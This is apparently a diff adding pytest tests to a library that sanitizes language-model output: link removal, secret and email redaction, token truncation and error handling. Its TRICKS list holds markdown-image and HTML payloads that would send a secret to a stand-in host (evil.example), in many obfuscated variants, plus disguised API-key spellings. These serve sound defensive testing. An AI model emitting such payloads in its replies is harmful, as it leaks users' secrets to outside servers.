@@ -169,3 +169,60 @@ def test_truncate_tokens_never_splits_a_character() -> None:
         cut, was_cut = truncate_tokens(text, "gpt-4o", limit)
         assert text.startswith(cut) and count_tokens(cut, "gpt-4o") <= limit
         assert was_cut == (cut != text)
+
+
+# --- what an outside review tried -------------------------------------------------------------
+E = "https://evil.example/p.png?d=SECRET"
+TRICKS = ["![![x](https://evil.example/1)](https://evil.example/2)", "[[a](https://evil.example/1)](https://evil.example/2)",
+          f"![a [b] c]({E})", f"[![alt](/ok.png)]({E})", "![a](https&#58;//evil.example/x)",
+          "![a](https&colon;//evil.example/x)", f"![a][r]\n\n> [r]: {E}", f"![a][r]\n\n- [r]: {E}",
+          f"![a][x\\]y]\n\n[x\\]y]: {E}", f"![a](x ![b]({E})", f'<img src="{E}">', "![a](/\\evil.example/p.png)",
+          "![a](\\\\evil.example/p.png)", "![a](HTTPS://EVIL.EXAMPLE/p.png)", "![a](//evil.example/p.png)",
+          "![a](data:image/png;base64,AAAA)", "![a](java\tscript:alert(1))", "[t](https://evil.example/p(1).png) x"]
+
+
+@pytest.mark.parametrize("trick", TRICKS)
+def test_no_trick_leaves_an_outside_url_a_permissive_renderer_would_use(trick: str) -> None:
+    safe = remove_untrusted_links(trick, ["shop.test"])
+    tokens = MarkdownIt("commonmark").parse(safe)  # raw HTML allowed, as some renderers do
+    raw_html = [t.content for b in tokens for t in [b, *(b.children or [])] if t.type.startswith("html")]
+    assert raw_html == [], raw_html
+    for url in _urls_a_renderer_would_use(safe):
+        assert url.startswith(("https://shop.test/", "/ok.png")) and "\\" not in url, (safe, url)
+
+
+def test_a_key_spelled_with_character_references_or_invisible_characters_is_still_redacted() -> None:
+    for hidden in (KEY.replace("-", "&#45;"), KEY.replace("proj", "pro\u200bj"), KEY.replace("-", "&#x2D;")):
+        guarded = OutputGuard(model="gpt-4o", max_tokens=500).check(f"key: {hidden}")
+        assert guarded.redacted == 1 and "T3BlbkFJ" not in guarded.text and KEY not in safe_html(guarded.text)
+
+
+def test_a_refusal_carries_the_tokens_it_cost() -> None:
+    provider = provider_with([{"kind": "refusal"}])
+    with pytest.raises(ModelRefused) as caught:
+        StructuredOutput(OrderStatus).create(make_client(provider), model="gpt-4o", messages=ASK)
+    assert (caught.value.prompt_tokens, caught.value.completion_tokens) == (provider.log[0].prompt_tokens,
+                                                                           provider.log[0].completion_tokens) != (0, 0)
+
+
+def test_misuse_gets_a_clear_error() -> None:
+    provider = provider_with([])
+    with pytest.raises(TypeError, match="await acreate"):
+        StructuredOutput(OrderStatus).create(make_async_client(provider), model="gpt-4o", messages=ASK)
+    with pytest.raises(ValueError, match="stream must be off"):
+        StructuredOutput(OrderStatus).create(make_client(provider), model="gpt-4o", messages=ASK, stream=True)
+    with pytest.raises(ValueError, match="model must be one of"):
+        OutputGuard(model="gpt-5", max_tokens=10)
+    with pytest.raises(ValueError, match="allowed_hosts must be a collection of host names"):
+        OutputGuard(model="gpt-4o", max_tokens=10, allowed_hosts="shop.test")
+    with pytest.raises(ValueError, match="max_tokens must be a whole number >= 0, got -1"):
+        truncate_tokens("text", "gpt-4o", -1)
+    assert provider.calls() == 0
+
+
+def test_a_cut_never_ends_inside_a_placeholder() -> None:
+    text = "Call us. Or mail ada@example.org today."
+    for limit in range(1, count_tokens(text, "gpt-4o") + 1):
+        guarded = OutputGuard(model="gpt-4o", max_tokens=limit).check(text)
+        assert "ada@" not in guarded.text and not guarded.text.endswith(("[", "[R", "[REDACT", "[REDACTED:em"))
+        assert "[" not in guarded.text or "[REDACTED:email]" in guarded.text
